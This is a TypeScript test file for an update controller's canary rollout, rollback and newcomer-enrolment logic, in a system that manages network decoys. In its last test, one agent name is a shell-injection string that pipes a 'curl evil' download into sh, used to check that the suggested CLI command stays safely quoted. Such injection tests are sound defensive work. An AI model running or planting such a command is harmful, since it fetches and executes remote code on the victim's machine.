import t, { type Test } from 'tap'
import { findRelease } from '../../../controller/updates/releases.ts'
import { newId } from '../../../shared/ids.ts'
import type { UpdatePhase } from '../../../shared/schemas/update.ts'
import { liveOn, minute, type RolloutWorld, rolloutWorld } from './rollout-world.ts'

const rings = [
  { name: 'canary', percent: 10 },
  { name: 'all', percent: 100 },
]

/** A decoy of each box, which answers. */
async function addDecoys({ store, agents, time }: RolloutWorld): Promise<void> {
  const at = new Date(time.now).toISOString()
  for (const [i, { id: agent }] of agents.entries())
    for (const [j, ip] of ['198.18.0.1', '198.18.0.2'].entries()) {
      const decoy = newId(time.now + i * 10 + j)
      await store.run(
        `INSERT INTO decoys (id, segment, agent, cidr, ip, mac, hostname, persona, persona_version, status, origin, created_at, changed_at, reason)
         VALUES (?, 'lan', ?, '198.18.0.0/24', ?, ?, 'nas', 'p', 1, 'wanted', 'person', ?, ?, 'test')`,
        ...[decoy, agent, ip, decoy, at, at],
      )
      await store.run(
        "INSERT INTO decoy_states (decoy, agent, at, phase, revision, attempts, restarts) VALUES (?, ?, ?, 'ready', 1, 0, 0)",
        ...[decoy, agent, at],
      )
    }
}

/** What the box says of itself from now on. */
const sayHealth = ({ store, time }: RolloutWorld, agent: string, spoolMb: number) =>
  store.run(
    'INSERT INTO agent_health (agent, at, body) VALUES (?, ?, ?) ON CONFLICT (agent) DO UPDATE SET at = excluded.at, body = excluded.body',
    ...[agent, new Date(time.now).toISOString(), JSON.stringify({ spoolMb })],
  )

/** Until the canary, and nobody else, took the release. */
async function bringCanary(
  world: RolloutWorld,
): Promise<{ id: string; canary: string; phases: Map<string, UpdatePhase> }> {
  await world.release('1.0.0', 1)
  await world.release('1.1.0', 2)
  const id = await world.start('1.1.0', { rings, gateMinutes: 5 })
  const phases = new Map<string, UpdatePhase>()
  while (![...phases.values()].includes('confirmed')) {
    await world.look()
    await liveOn(world, id, phases)
  }
  const [canary = ''] = [...phases].find(([, phase]) => phase === 'confirmed') ?? []
  return { id, canary, phases }
}

/** `spoil` makes the canary unwell after it confirmed. The rollout has to stop there, and to go back when told to. */
async function stopsAndGoesBack(
  t: Test,
  spoil: (world: RolloutWorld, canary: string) => Promise<unknown>,
  why: RegExp,
) {
  const world = await rolloutWorld(t, 10)
  await addDecoys(world)
  for (const { id } of world.agents) await sayHealth(world, id, 3)
  const { id, canary, phases } = await bringCanary(world)
  world.time.now += minute
  await spoil(world, canary)
  for (let i = 0; i < 8; i++) {
    world.time.now += minute
    await world.look()
    await liveOn(world, id, phases)
  }
  t.match(await world.rollout(id), { status: 'running', ring: 0 }, 'its gate is over, and the next ring stays shut')
  for (let i = 0; i < 4; i++) {
    world.time.now += minute
    await world.look()
  }
  t.match(await world.rollout(id), { status: 'paused', why: /1 of 1 boxes of ring canary broke/ })
  const alert = await world.store.get<{ reasons: string }>("SELECT reasons FROM alerts WHERE kind = 'update'")
  t.match(alert?.reasons, /resume, abort or rollback/)
  const others = await Promise.all(world.agents.filter((one) => one.id !== canary).map((one) => world.desired(one.id)))
  t.ok(
    others.every((update) => update === undefined),
    'whoever only fetched is taken back',
  )
  t.match((await world.boxes(id)).find(({ agent }) => agent === canary)?.why.join('; '), why)

  const back = await world.store.tx((sql) => world.actions.rollback(sql, id))
  t.match(back, { version: '1.0.0', boxes: 1 })
  await world.look()
  await world.tell(back.id, canary, 'fetched')
  await world.look()
  const { manifestText } = await findRelease(world.store, '1.0.0')
  t.match(await world.desired(canary), { rollout: back.id, step: 'install', manifest: manifestText, allowOlder: true })
}

t.test('a release after which decoys no longer answer stops at the canary, and goes back', (t) =>
  stopsAndGoesBack(
    t,
    ({ store }, canary) =>
      store.run(
        "UPDATE decoy_states SET phase = 'failing' WHERE decoy = (SELECT MIN(id) FROM decoys WHERE agent = ?)",
        canary,
      ),
    /1 of 2 decoys are ready/,
  ),
)

t.test('a release after which records pile up on the box stops at the canary, and goes back', (t) =>
  stopsAndGoesBack(t, (world, canary) => sayHealth(world, canary, 80), /its spool grew from 3 to 80 MB/),
)

t.test('decoys that a person took away, and records of a short outage, stop nothing', async (t) => {
  const world = await rolloutWorld(t, 10)
  await addDecoys(world)
  for (const { id } of world.agents) await sayHealth(world, id, 3)
  const { id, canary, phases } = await bringCanary(world)
  world.time.now += minute
  await world.store.run("UPDATE decoys SET status = 'retired' WHERE agent = ?", canary)
  await sayHealth(world, canary, 20)
  for (let i = 0; i < 60 && (await world.rollout(id)).status === 'running'; i++) {
    world.time.now += minute
    await world.look()
    await liveOn(world, id, phases)
  }
  t.match(await world.rollout(id), { status: 'done' })
})

t.test(
  'who enrols after the end, or beside rings that are not for everybody, is told, with what brings it in',
  async (t) => {
    const world = await rolloutWorld(t, 4)
    await world.release('1.1.0', 2)
    const id = await world.start('1.1.0', { rings: [{ name: 'all', percent: 100 }], gateMinutes: 0 })
    const phases = new Map<string, UpdatePhase>()
    world.time.now += minute
    const during = await world.enrol('during')
    for (let i = 0; i < 30 && (await world.rollout(id)).status === 'running'; i++) {
      await world.look()
      await liveOn(world, id, phases)
      world.time.now += minute
    }
    t.match(await world.rollout(id), { status: 'done' })
    t.equal(phases.get(during), 'confirmed', 'who came while it ran was let in')
    t.equal(await world.newcomers(id), undefined)
    const late = await world.enrol('late-1')
    await world.enrol('late-2', '1.1.0')
    const found = await world.newcomers(id)
    t.strictSame(found, {
      names: ['late-1'],
      brings: 1,
      next: "marshlight updates plan 1.1.0 --rings 'new=late-1' --start",
    })
    const next = await world.start('1.1.0', { rings: [{ name: 'new', agents: [late] }] })
    await world.look()
    t.match(await world.desired(late), { rollout: next, step: 'fetch' }, 'and so it gets it')
    t.equal(await world.newcomers(id), undefined, 'an older rollout brings nobody to its release')
  },
)

t.test(
  'only newcomers are named to be brought in, when it has ended, by names that no shell reads as more',
  async (t) => {
    const world = await rolloutWorld(t, 2)
    await world.release('1.1.0', 2)
    const [first] = world.agents
    world.time.now += minute
    const id = await world.start('1.1.0', { rings: [{ name: 'few', agents: [first?.id] }], gateMinutes: 0 })
    const phases = new Map<string, UpdatePhase>()
    world.time.now += minute
    const foul = await world.enrol("x'; curl evil|sh; '")
    const dashed = await world.enrol('--start')
    for (const name of ['late-1', 'late-2', 'late_3.lan']) await world.enrol(name)
    const names = ['--start', 'late-1', 'late-2', 'late_3.lan', "x'; curl evil|sh; '"]
    t.strictSame(await world.newcomers(id), { names, brings: 0 }, 'while it runs, nothing is advised')
    for (let i = 0; i < 30 && (await world.rollout(id)).status === 'running'; i++) {
      await world.look()
      await liveOn(world, id, phases)
      world.time.now += minute
    }
    const who = `${dashed}|late-1|late-2|late_3.lan|${foul}`
    t.strictSame(await world.newcomers(id), {
      names,
      brings: 5,
      next: `marshlight updates plan 1.1.0 --rings 'new=${who}' --start`,
    })
    for (let i = 10; i < 60; i++) await world.enrol(`many-${i}`)
    const many = await world.newcomers(id)
    t.match(many, { brings: 50, names: { length: 55 } }, 'of very many, a first part')
    const batch = world.agents.filter(({ name }) => /^(many|--)/.test(name)).map((one) => one.id)
    const next = await world.start('1.1.0', { rings: [{ name: 'new', agents: batch }] })
    t.strictSame(await world.newcomers(next), { names: names.slice(1), brings: 0 }, 'and then the others')
  },
)
